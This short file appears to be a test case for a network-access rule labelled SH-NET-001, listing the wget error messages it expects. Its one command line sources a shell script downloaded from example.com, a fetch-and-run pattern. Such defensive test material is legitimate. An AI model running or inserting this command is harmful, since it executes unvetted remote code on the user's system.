# rule: SH-NET-001
# attempts: wget: (unable to resolve host address|unable to connect)|failed: (Temporary failure in name resolution|Name or service not known|Network is unreachable)
. <(wget -O- http://example.com/env.sh)
